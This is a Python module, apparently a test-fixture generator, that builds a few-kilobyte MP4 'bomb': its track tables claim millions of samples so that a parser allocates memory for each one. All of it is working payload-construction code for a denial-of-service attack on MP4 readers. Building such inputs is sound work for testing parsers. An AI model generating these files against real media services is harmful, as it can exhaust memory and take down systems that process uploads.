"""An MP4 of a few kilobytes whose tracks claim millions of samples, for each of which a reader makes room."""

from struct import pack

SQUARE = pack(">9i", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
"""The matrix that turns nothing."""


def bomb(tracks: int, samples: int) -> bytes:
    """Return the file; all samples of all tracks are the same byte."""
    header = _full(
        b"mvhd", pack(">4I", 0, 0, 1000, 1000), pack(">IH", 0x10000, 0x100), bytes(10), SQUARE, bytes(24), pack(">I", 1)
    )
    moov = _box(b"moov", header, *(_track(number + 1, samples) for number in range(tracks)))
    return _box(b"ftyp", b"isom\0\0\0\0isom") + _box(b"mdat", bytes(8)) + moov


def _track(number: int, samples: int) -> bytes:
    header = _full(b"tkhd", pack(">5I", 0, 0, number, 0, 1000), bytes(16), SQUARE, pack(">2I", 64 << 16, 48 << 16))
    media = _full(b"mdhd", pack(">4I2H", 0, 0, 1000, 1000, 0, 0))
    handler = _full(b"hdlr", bytes(4), b"vide", bytes(13))
    where = _box(b"dinf", _full(b"dref", pack(">I", 1), _box(b"url ", b"\0\0\0\1")))
    pictures = _box(b"jpeg", bytes(6), pack(">H", 1), bytes(16), pack(">2H", 64, 48), bytes(46), pack(">Hh", 24, -1))
    table = _box(
        b"stbl",
        _full(b"stsd", pack(">I", 1), pictures),
        _full(b"stts", pack(">3I", 1, samples, 1)),
        _full(b"stsc", pack(">4I", 1, 1, samples, 1)),
        _full(b"stsz", pack(">2I", 1, samples)),
        _full(b"stco", pack(">2I", 1, 36)),
    )
    return _box(b"trak", header, _box(b"mdia", media, handler, _box(b"minf", _full(b"vmhd", bytes(8)), where, table)))


def _box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return pack(">I", 8 + len(body)) + kind + body


def _full(kind: bytes, *parts: bytes) -> bytes:
    return _box(kind, bytes(4), *parts)
